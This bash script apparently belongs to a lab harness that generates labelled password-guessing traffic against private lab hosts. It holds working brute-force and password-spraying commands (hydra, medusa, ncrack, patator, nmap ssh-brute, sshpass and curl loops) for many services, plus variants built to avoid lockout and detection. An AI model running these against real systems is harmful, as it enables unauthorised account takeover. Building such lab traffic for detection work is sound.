# Password guessing. Sourced by attacks.sh.
# shellcheck shell=bash disable=SC2034

FILES=10.20.0.30

# words COUNT: a list of passwords; its path.
words() {
    local list=$LAB_DIR/words-$1
    [ -f "$list" ] || awk -v n="$1" 'BEGIN { split("summer winter dragon shadow master monkey silver purple hunter orange", w, " "); for (i = 0; i < n; i++) print w[i % 10 + 1] 1980 + i }' >"$list"
    echo "$list"
}

hydra_try() { local count=$1 tasks=$2; shift 2; (cd "$LAB_DIR" && on 45 hydra -I -t "$tasks" -w 5 -l admin -P "$(words "$count")" "$@"); }

tool hydra_ftp brute-force a1 $FILES; hydra_ftp() { hydra_try 60 6 ftp://$FILES; }
tool telnet_loop brute-force a2 $FILES; telnet_loop() { on 60 bash -c 'for i in $(seq 20); do (exec 3<>/dev/tcp/10.20.0.30/23; sleep 0.2; printf "admin\r\n" >&3; sleep 0.2; printf "word$0\r\n" >&3; timeout 3 head -c 60 <&3 >/dev/null) & [ $((i % 4)) != 0 ] || wait; done; wait'; }
tool hydra_pop3 brute-force a1 $FILES; hydra_pop3() { hydra_try 60 6 pop3://$FILES; }
tool hydra_imap brute-force a3 $FILES; hydra_imap() { hydra_try 60 6 imap://$FILES; }
tool hydra_smtp brute-force a1 $FILES; hydra_smtp() { hydra_try 60 4 smtp://$FILES; }
tool hydra_mysql brute-force a1 $FILES; hydra_mysql() { hydra_try 80 4 mysql://$FILES; }
tool hydra_postgres brute-force a2 $FILES; hydra_postgres() { hydra_try 80 4 postgres://$FILES/postgres; }
tool hydra_redis brute-force a1 $FILES; hydra_redis() { (cd "$LAB_DIR" && on 45 hydra -I -t 4 -P "$(words 80)" redis://$FILES); }
tool hydra_smb brute-force a3 $FILES; hydra_smb() { hydra_try 60 1 smb://$FILES; }
tool hydra_form brute-force a2 $WEB; hydra_form() { hydra_try 120 4 $WEB http-post-form '/signin:user=^USER^&password=^PASS^:Invalid'; }
tool hydra_tls_form brute-force a1 $WEB; hydra_tls_form() { hydra_try 150 4 $WEB https-post-form '/signin:user=^USER^&password=^PASS^:Invalid'; }
tool hydra_tls_get brute-force a1 $WEB; hydra_tls_get() { hydra_try 150 4 $WEB https-get /login; }
tool hydra_imaps brute-force a1 $FILES; hydra_imaps() { hydra_try 60 6 imaps://$FILES; }
tool medusa_ssh brute-force a1 $SSH; medusa_ssh() { on 45 medusa -h $SSH -u admin -P "$(words 60)" -M ssh -t 3; }
tool medusa_ftp brute-force a2 $FILES; medusa_ftp() { on 45 medusa -h $FILES -u admin -P "$(words 60)" -M ftp -t 4; }
tool ncrack_ssh brute-force a3 $SSH; ncrack_ssh() { on 45 ncrack --user admin -P "$(words 60)" ssh://$SSH; }
tool patator_ssh brute-force a1 $SSH; patator_ssh() { on 45 patator ssh_login host=$SSH user=admin password=FILE0 "0=$(words 60)" -t 4; }
tool nmap_ssh brute-force a2 $SSH; nmap_ssh() { on 60 nmap -n -Pn -p 22 --script ssh-brute --script-args "userdb=$(echo admin >"$LAB_DIR/users"; echo "$LAB_DIR/users"),passdb=$(words 60),brute.threads=4" $SSH; }
tool ssh_loop brute-force a1 $SSH; ssh_loop() { on 60 bash -c 'while read -r w; do sshpass -p "$w" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o ConnectTimeout=5 admin@10.20.0.20 true; done <"$0"' "$(words 30)"; }
tool ssh_careful brute-force a2 $SSH; ssh_careful() { on 200 bash -c 'while read -r w; do sshpass -p "$w" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o ConnectTimeout=5 admin@10.20.0.20 true; sleep 3; done <"$0"' "$(words 45)"; }
tool ssh_users brute-force a3 $SSH; ssh_users() { (cd "$LAB_DIR" && on 45 hydra -I -t 6 -w 4 -L "$(words 60)" -p Welcome1 "ssh://$SSH"); }
tool curl_form brute-force a1 $WEB; curl_form() { on 45 bash -c 'while read -r w; do curl -s -o /dev/null -m 5 -d "username=admin&password=$w" http://10.20.0.10/signin; done <"$0"' "$(words 80)"; }
tool curl_api brute-force a2 $WEB; curl_api() { on 45 bash -c 'while read -r w; do curl -s -o /dev/null -m 5 -H "Content-Type: application/json" -d "{\"email\":\"admin@shop.example\",\"password\":\"$w\"}" http://10.20.0.10/api/login; done <"$0"' "$(words 80)"; }
tool snmp_guess brute-force a1 $FILES; snmp_guess() { on 45 onesixtyone -w 30 -c "$(words 300)" $FILES; }
# One password for a list of names: no account is locked by it.
spray() { local server=$1; shift; (cd "$LAB_DIR" && on 150 hydra -I -w 5 -L "$(words 40)" -p Winter2026 "$@" "$server"); }
tool spray_imap brute-force a1 $FILES; spray_imap() { spray imap://$FILES -t 4; }
tool spray_pop3 brute-force a2 $FILES; spray_pop3() { spray pop3://$FILES -t 2; }
tool spray_smtp brute-force a3 $FILES; spray_smtp() { spray smtp://$FILES -t 4; }
tool spray_ftp brute-force a1 $FILES; spray_ftp() { spray ftp://$FILES -t 4; }
tool spray_basic brute-force a2 $WEB; spray_basic() { spray http-get://$WEB/login -t 2; }
tool spray_form brute-force a3 $WEB; spray_form() { (cd "$LAB_DIR" && on 60 hydra -I -t 2 -L "$(words 40)" -p Winter2026 $WEB http-post-form '/signin:user=^USER^&password=^PASS^:Invalid'); }
tool spray_slowly brute-force a1 $FILES; spray_slowly() { (cd "$LAB_DIR" && on 200 hydra -I -t 1 -c 4 -w 5 -L "$(words 30)" -p Winter2026 imap://$FILES); }
tool ssh_many brute-force a5 $SSH 203.0.113.101,203.0.113.102,203.0.113.103,203.0.113.104,203.0.113.105,203.0.113.106,203.0.113.107,203.0.113.108,203.0.113.109,203.0.113.110,203.0.113.111,203.0.113.112,203.0.113.113,203.0.113.114,203.0.113.115,203.0.113.116
ssh_many() {
    local i
    for i in $(seq 1 16); do
        on 60 bash -c 'for t in 1 2 3 4; do sshpass -p "word$0$t" ssh -b "203.0.113.$0" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 admin@10.20.0.20 true; sleep $((RANDOM % 6)); done' $((100 + i)) &
    done
    wait_for_jobs
}
